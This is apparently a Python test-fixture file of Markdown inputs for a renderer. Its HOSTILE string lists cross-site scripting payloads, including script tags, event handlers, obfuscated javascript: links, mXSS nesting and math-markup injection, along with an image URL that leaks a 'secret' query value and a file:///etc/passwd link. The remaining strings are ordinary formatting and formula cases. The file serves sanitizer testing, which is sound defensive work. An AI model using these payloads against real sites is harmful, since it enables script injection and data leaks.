"""Markdown texts: what a hostile model might write, and what every parser must understand."""

HOSTILE = """<script>window.hacked = 1</script>

<img src=x onerror="window.hacked = 1">
<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>

[a](javascript:window.hacked=1) [b](JaVaScRiPt&#58;alert(1)) [c](java&#10;script:alert(1))
[d](data:text/html,<script>1</script>) [e](vbscript:x) [f](<javascript:alert(1)>) <javascript:alert(1)>
[g](blob:http://x/y) [h](file:///etc/passwd) [i](/v1/models)

![remote](http://127.0.0.1:9/leak.png?q=secret) ![x](javascript:alert(1))
![y](data:image/svg+xml;base64,PHN2Zz4=)

<iframe src="https://example.com"></iframe><object data="x"></object><embed src="x">
<base href="https://example.com/"><style>body { display: none }</style>
<link rel=stylesheet href=https://example.com/x.css>
<meta http-equiv=refresh content="0;url=https://example.com">

<form action="https://example.com"><input name=a>
<button formaction="javascript:alert(1)">go</button></form>

<a href="javascript:alert(1)" onclick="alert(1)" style="position:fixed">link</a>
<b onmouseover=alert(1)>bold</b>
a <u>b <i>c</u> d</i> <b>e

- nested <img src=x onerror=alert(1)>
  > deeper **<svg/onload=alert(1)>** [ok](https://example.com/?a=1&amp;b=2 "ti\\"tle onmouseover=x")

| a | b |
|---|---|
| <img src=x onerror=alert(1)> | `<script>alert(1)</script>` |

```html
<script>window.hacked = 1</script><img src=x onerror=alert(1)>
```

```" onmouseover="alert(1)
code
```

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">

$\\href{javascript:alert(1)}{x}$ $\\class{a" onclick="alert(1)}{x}$ $\\includegraphics{https://example.com/x}$
$\\text{<img src=x onerror=alert(1)>}$ \\( \\unicode{x} \\style{position:fixed}{y} \\)

[ref]: javascript:alert(1)
[ref] &lt;script&gt;alert(1)&lt;/script&gt;
"""

DOCUMENTS = {
    "blocks": "# One\n\nText *a* **b** `c` ~~d~~\nmore\\\nline\n\n---\n\n"
    "> quote\n> more\n\nSetext\n---\n\nend\n",
    "lists": "1. a\n\n2. b\n   - c\n   - d\n\n     text\n3. e\n\n"
    "- [ ] open\n- [x] done\n\n2\n\n* other\n+ third\n",
    "late item": "1. one\n\n2. two\n\n3. three\n\nparagraph\n\n- a\n\n\n- b\n",
    "code": "Text\n\n```python\ndef f():\n\n    return '```'\n```\n\n    indented\n\n~~~\nx\n~~~\n\n"
    "open:\n\n```\nnever closed\n",
    "table": "a\n\n| x | y |\n|:--|--:|\n| 1 | 2 |\n| `a` | **b** |\n\nafter | not\n",
    "links": "See [it][1] and <https://example.com/x> and [that](https://example.com/y 'T').\n\n"
    "[1]: https://example.com/1\n\nEnd [it][1].\n",
    "entities": "a &amp; b &lt;c&gt; &#8212; &copy; 5 < 6 && x\n\n\\*not em\\* snake_case_name 2*3*4\n",
    "line breaks": "one\r\ntwo\r\n\r\nthree\r\n- a\r\n- b\r\n",
}

FORMULAS = r"""Roots of $ax^2 + b_1x = 0$ for \(a \neq 0\), at $5 and $10, or $5-$10 or `$x$`:

\[
x = \frac{-b \pm \sqrt{b^2}}{2a}
\]

$$\begin{pmatrix} a_1 & b \\ c & d \end{pmatrix}$$

\begin{align}
a &= b_1 \\
c &= d_2
\end{align}

- in a list $\alpha_1$
- unreadable $\frac{$ and \(\nosuchcommand\)

| a | $b_1$ |
|---|---|
| $x$ | y |
"""
